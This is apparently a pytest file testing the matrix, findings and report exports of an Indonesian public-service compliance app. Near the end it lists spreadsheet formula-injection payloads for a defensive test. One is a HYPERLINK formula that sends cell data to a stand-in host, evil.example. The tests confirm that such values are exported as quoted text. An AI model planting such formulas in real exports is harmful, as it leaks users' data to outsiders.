"""The completeness matrix and the exports, read back: CSV, XLSX and the printable report."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from typing import Any

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from infra.db import transaction
from infra.tables import Decision, Document, Submission
from tests.support.workspace import Workspace

LAKTASI, TOILET = "P2H-02-LAKTASI", "P2H-02-TOILET"
MATRIX_HEADER = (  # the header row, its cells joined by |
    "Wilayah|Kode Unit|Nama Unit|Jenis Unit|Kriteria|Nama Kriteria|Wajib|Status Mesin|"
    "Jumlah Dokumen|Kekurangan|Keputusan|Catatan|Siap Diunggah"
)
FINDINGS_HEADER = (
    "Kriteria|Nama Kriteria|Berkas|Jenis Bukti|Status Dokumen|Pemeriksaan|Hasil|Kode Alasan|"
    "Pesan|Lokasi|Diunggah"
)


@dataclass
class Scene:
    a: str  # kota that handed in LAKTASI (accepted) and one TOILET photo (revision requested)
    b: str  # kota that handed in nothing
    c: str  # lapas that handed in nothing


@pytest.fixture
def scene(ws: Workspace) -> Scene:
    a = ws.unit(name="Kota Uji Alpha")
    b = ws.unit(name="Kota Uji Beta")
    c = ws.unit(kind="lapas", name="Lapas Uji Gamma")
    laktasi = ws.upload(a, LAKTASI, ["passed", "passed"])
    ws.upload(a, TOILET, ["passed"])
    ws.add_finding(
        laktasi[0],
        "fail",
        "exif-missing",
        "Foto tidak memiliki data EXIF.",
        exif="DateTimeOriginal",
    )
    ws.add_finding(laktasi[1], "pass", "ok", "Pemeriksaan lulus.")
    assert ws.decide(a, LAKTASI, decision="accepted").status_code == 201
    revision = ws.decide(a, TOILET, decision="revision_requested", note="Foto toilet kurang <satu>")
    assert revision.status_code == 201
    return Scene(a, b, c)


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the mark
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def sheet_rows(body: bytes, title: str) -> list[list[str]]:
    book = load_workbook(io.BytesIO(body), read_only=True)
    return [
        ["" if v is None else str(v) for v in row]
        for row in book[title].iter_rows(values_only=True)
    ]


def matrix_get(ws: Workspace, suffix: str = "", **params: Any) -> Any:
    params = {"programme": "P2HAM", "period": "2025", "region": ws.region, **params}
    return ws.client.get(f"/v1/matrix{suffix}", params=params, headers=ws.verifier)


def test_the_matrix_shows_every_unit_by_criterion_with_counts_per_region(
    ws: Workspace, scene: Scene
) -> None:
    matrix = matrix_get(ws).json()
    leaves = list(ws.catalog().leaves)
    assert [c["id"] for c in matrix["criteria"]] == leaves
    units = {u["code"]: u for u in matrix["units"]}
    assert set(units) == {scene.a, scene.b, scene.c}

    a, b, c = units[scene.a], units[scene.b], units[scene.c]
    assert (a["submitted"], b["submitted"]) == (True, False)
    assert a["cells"][LAKTASI]["status"] == "complete"
    assert (a["cells"][LAKTASI]["decision"], a["cells"][LAKTASI]["decision_label"]) == (
        "accepted",
        "Memenuhi",
    )
    assert a["cells"][TOILET]["note"] == "Foto toilet kurang <satu>"
    # no submission: evaluated over no documents, as GET /v1/submissions shows it
    assert b["cells"][LAKTASI] | {"missing": None} == {
        "status": "incomplete",
        "status_label": "BELUM LENGKAP",
        "decision": None,
        "decision_label": None,
        "note": None,
        "documents": 0,
        "resubmitted": False,
        "missing": None,
    }
    assert b["cells"]["P2H-02-KUNJUNGAN"]["status"] == "not_applicable"
    assert c["cells"]["P2H-02-KUNJUNGAN"]["status"] == "incomplete"
    assert a["ready_label"] == "Belum siap"

    (region,) = matrix["regions"]
    assert region["region"] == ws.region
    assert (region["units"], region["units_submitted"], region["units_ready"]) == (3, 1, 0)
    # only the unit that uploaded: the two others count in `units`, never as BELUM LENGKAP
    assert region["statuses"] == {"complete": 2, "incomplete": 17, "not_applicable": 1}
    assert region["decisions"] == {"accepted": 1, "revision_requested": 1, "undecided": 17}


def test_units_to_which_no_criterion_applies_are_left_out_of_the_matrix(
    ws: Workspace, scene: Scene
) -> None:
    matrix = matrix_get(ws, programme="AKSIHAM", period="2025-B08").json()
    assert {u["code"] for u in matrix["units"]} == {scene.a, scene.b}  # not the lapas


@pytest.mark.parametrize(
    ("params", "status", "code"),
    [
        ({"programme": "NOPE"}, 422, "unknown_programme"),
        ({"period": "2025-B08"}, 422, "invalid_period"),
        ({"programme": None}, 422, "invalid_request"),
        ({"region": "99"}, 404, "not_found"),
    ],
)
def test_a_bad_matrix_request_is_refused_with_a_code(
    ws: Workspace, params: dict[str, Any], status: int, code: str
) -> None:
    query = {k: v for k, v in {"programme": "P2HAM", "period": "2025", **params}.items() if v}
    answer = ws.client.get("/v1/matrix", params=query, headers=ws.verifier)
    assert (answer.status_code, answer.json()["code"]) == (status, code)


def test_the_matrix_csv_and_xlsx_hold_the_same_rows_under_indonesian_headers(
    ws: Workspace, scene: Scene
) -> None:
    as_csv = matrix_get(ws, ".csv")
    as_xlsx = matrix_get(ws, ".xlsx")
    assert as_csv.headers["content-disposition"] == 'attachment; filename="matriks_P2HAM_2025.csv"'
    assert as_xlsx.headers["content-disposition"] == (
        'attachment; filename="matriks_P2HAM_2025.xlsx"'
    )
    assert as_csv.headers["content-type"].startswith("text/csv")

    rows = csv_rows(as_csv.content)
    assert "|".join(rows[0]) == MATRIX_HEADER
    assert len(rows) == 1 + 3 * len(ws.catalog().leaves)
    by_key = {(r[1], r[4]): r for r in rows[1:]}
    assert by_key[(scene.a, LAKTASI)] == [
        ws.region,
        scene.a,
        "Kota Uji Alpha",
        "kota",
        LAKTASI,
        "Ruang laktasi/menyusui",
        "Ya",
        "LENGKAP",
        "2",
        "",
        "Memenuhi",
        "",
        "Belum siap",
    ]
    toilet = by_key[(scene.a, TOILET)]
    assert toilet[7:12] == [
        "BELUM LENGKAP",
        "1",
        "Foto fasilitas: ada 1 dari minimal 2",
        "Perlu Perbaikan",
        "Foto toilet kurang <satu>",
    ]
    assert by_key[(scene.b, "P2H-02-KUNJUNGAN")][7] == "Tidak berlaku"
    assert by_key[(scene.c, LAKTASI)][10] == "Belum diputuskan"

    assert sheet_rows(as_xlsx.content, "Matriks") == rows
    summary = sheet_rows(as_xlsx.content, "Ringkasan")
    assert summary[0][:5] == [
        "Wilayah",
        "Nama Wilayah",
        "Jumlah Unit",
        "Unit Mengunggah",
        "Unit Siap Diunggah",
    ]
    assert summary[1][:5] == [ws.region, f"Provinsi Uji {ws.region}", "3", "1", "0"]
    totals = dict(zip(summary[0][5:], summary[1][5:], strict=True))
    assert totals["LENGKAP"] == "2"  # cells of the one unit that uploaded
    assert totals["Memenuhi"] == "1"
    assert totals["Belum diputuskan"] == "17"


def test_the_findings_export_lists_every_document_with_its_findings(
    ws: Workspace, scene: Scene
) -> None:
    path = ws.path(scene.a, "/findings.csv")
    as_csv = ws.client.get(path, headers=ws.verifier)
    as_xlsx = ws.client.get(ws.path(scene.a, "/findings.xlsx"), headers=ws.verifier)
    assert as_csv.status_code == 200
    assert as_csv.headers["content-disposition"] == (
        f'attachment; filename="temuan_P2HAM_2025_{scene.a}.csv"'
    )
    rows = csv_rows(as_csv.content)
    assert "|".join(rows[0]) == FINDINGS_HEADER
    body = [r[:10] for r in rows[1:]]
    first, second = (f"{scene.a}_P2HAM_2025_{LAKTASI}_{n}.jpg" for n in (1, 2))
    assert body == [  # in catalog order: the toilet comes before the lactation room
        [
            TOILET,
            "Toilet khusus penyandang disabilitas (dengan bel/pegangan)",
            f"{scene.a}_P2HAM_2025_{TOILET}_1.jpg",
            "facility_photo",
            "Lolos pemeriksaan sistem",
            "",
            "",
            "",
            "",
            "",
        ],
        [
            LAKTASI,
            "Ruang laktasi/menyusui",
            first,
            "facility_photo",
            "Lolos pemeriksaan sistem",
            "check-exif-missing",
            "Gagal",
            "exif-missing",
            "Foto tidak memiliki data EXIF.",
            "EXIF DateTimeOriginal",
        ],
        [
            LAKTASI,
            "Ruang laktasi/menyusui",
            second,
            "facility_photo",
            "Lolos pemeriksaan sistem",
            "check-ok",
            "Lolos",
            "ok",
            "Pemeriksaan lulus.",
            "",
        ],
    ]
    assert sheet_rows(as_xlsx.content, "Temuan") == rows


def test_the_report_is_a_printable_indonesian_page_about_the_unit(
    ws: Workspace, scene: Scene
) -> None:
    answer = ws.client.get(ws.path(scene.a, "/report.html"), headers=ws.verifier)
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/html")
    assert answer.headers["content-disposition"] == (
        f'inline; filename="laporan_P2HAM_2025_{scene.a}.html"'
    )
    html = answer.text
    for text in (
        "KANWIL UJI ABSAH",  # the office_name setting
        "LAPORAN HASIL PEMERIKSAAN",
        "Pelayanan Publik Berbasis HAM",
        f"Kota Uji Alpha ({scene.a})",
        "Ruang laktasi/menyusui",
        "LENGKAP",
        "BELUM LENGKAP",
        "Memenuhi",
        "Perlu Perbaikan",
        "Belum diputuskan",
        "Foto tidak memiliki data EXIF. (EXIF DateTimeOriginal)",
        "Foto fasilitas (ada 1 dari minimal 2)",
        "Status pengajuan: <strong>Belum siap</strong>",
        "Diperiksa oleh,<br>Verifikator",
        "size: A4",
    ):
        assert text in html, text
    assert "Foto toilet kurang &lt;satu&gt;" in html  # user text is escaped
    assert "<satu>" not in html


def test_a_unit_without_a_submission_still_gets_an_empty_report_and_findings(
    ws: Workspace, scene: Scene
) -> None:
    report = ws.client.get(ws.path(scene.b, "/report.html"), headers=ws.verifier)
    assert report.status_code == 200
    assert "Tidak ada dokumen yang diunggah" in report.text
    rows = csv_rows(ws.client.get(ws.path(scene.b, "/findings.csv"), headers=ws.verifier).content)
    assert ["|".join(row) for row in rows] == [FINDINGS_HEADER]


# Text a spreadsheet would read as a formula (or a DDE command) if written raw.
FORMULA_LIKE = [
    pytest.param('=HYPERLINK("https://evil.example/?"&B2,"klik")', id="equals-hyperlink"),
    pytest.param("+62 711 123", id="plus"),
    pytest.param("-1+1", id="minus"),
    pytest.param("@SUM(A1:A9)", id="at"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="carriage-return"),
]


def _name_file(ws: Workspace, doc_id: str, name: str) -> None:
    with transaction(ws.sessions) as session:
        session.execute(sa.update(Document).where(Document.id == doc_id).values(original_name=name))


def _store_note(ws: Workspace, unit: str, criterion: str, note: str) -> None:
    """A note as it may already sit in the database (written before input was checked)."""
    with transaction(ws.sessions) as session:
        session.execute(
            sa.update(Decision)
            .where(
                Decision.criterion_id == criterion,
                Decision.submission_id
                == sa.select(Submission.id).where(Submission.unit_code == unit).scalar_subquery(),
            )
            .values(note=note)
        )


def xlsx_cells(body: bytes, title: str) -> list[list[Any]]:
    """Every cell of a sheet (full mode: data types are kept)."""
    return [list(row) for row in load_workbook(io.BytesIO(body))[title].iter_rows()]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_text_that_looks_like_a_formula_is_exported_as_text_in_csv_and_xlsx(
    ws: Workspace, text: str
) -> None:
    unit = ws.unit(name=text)
    (doc,) = ws.upload(unit, TOILET, ["passed"])
    _name_file(ws, doc, text)
    assert ws.decide(unit, TOILET, decision="revision_requested", note="x").status_code == 201
    _store_note(ws, unit, TOILET, text)

    rows = csv_rows(matrix_get(ws, ".csv").content)
    (row,) = [r for r in rows if r[1] == unit and r[4] == TOILET]
    assert (row[2], row[11]) == ("'" + text, "'" + text)  # the quote keeps Excel from evaluating
    cells = xlsx_cells(matrix_get(ws, ".xlsx").content, "Matriks")
    (xrow,) = [r for r in cells if r[1].value == unit and r[4].value == TOILET]
    in_xml = text.replace("\r", "\n")  # a line break in a cell is a newline
    for cell in (xrow[2], xrow[11]):
        assert (cell.value, cell.data_type) == (in_xml, "s")

    findings = ws.client.get(ws.path(unit, "/findings.csv"), headers=ws.verifier)
    assert [r[2] for r in csv_rows(findings.content)[1:]] == ["'" + text]
    findings_xlsx = ws.client.get(ws.path(unit, "/findings.xlsx"), headers=ws.verifier)
    (name_cell,) = [r[2] for r in xlsx_cells(findings_xlsx.content, "Temuan")[1:]]
    assert (name_cell.value, name_cell.data_type) == (in_xml, "s")


def test_numbers_stay_numbers_and_plain_text_is_not_quoted(ws: Workspace, scene: Scene) -> None:
    cells = xlsx_cells(matrix_get(ws, ".xlsx").content, "Matriks")
    (row,) = [r for r in cells if r[1].value == scene.a and r[4].value == LAKTASI]
    assert (row[2].value, row[8].value, row[8].data_type) == ("Kota Uji Alpha", 2, "n")


@pytest.mark.parametrize(
    ("stored", "shown"),
    [
        pytest.param("baris satu\x0bbaris dua", "baris satu\nbaris dua", id="vertical-tab"),
        pytest.param("halaman\x0cberikut", "halaman\nberikut", id="form-feed"),
        pytest.param("bel\x07 dan\x1b escape", "bel dan escape", id="bell-and-escape"),
        pytest.param("tab\tdan\nbaris", "tab\tdan\nbaris", id="tab-and-newline-kept"),
    ],
)
def test_a_control_character_already_stored_in_a_note_does_not_break_the_xlsx(
    ws: Workspace, stored: str, shown: str
) -> None:
    unit = ws.unit()
    ws.upload(unit, TOILET, ["passed"])
    assert ws.decide(unit, TOILET, decision="revision_requested", note="x").status_code == 201
    _store_note(ws, unit, TOILET, stored)

    answer = matrix_get(ws, ".xlsx")
    assert answer.status_code == 200
    cells = xlsx_cells(answer.content, "Matriks")
    (row,) = [r for r in cells if r[1].value == unit and r[4].value == TOILET]
    assert row[11].value == shown
    (csv_row,) = [r for r in csv_rows(matrix_get(ws, ".csv").content) if r[1] == unit][-1:]
    assert all("\x0b" not in v and "\x07" not in v for v in csv_row)
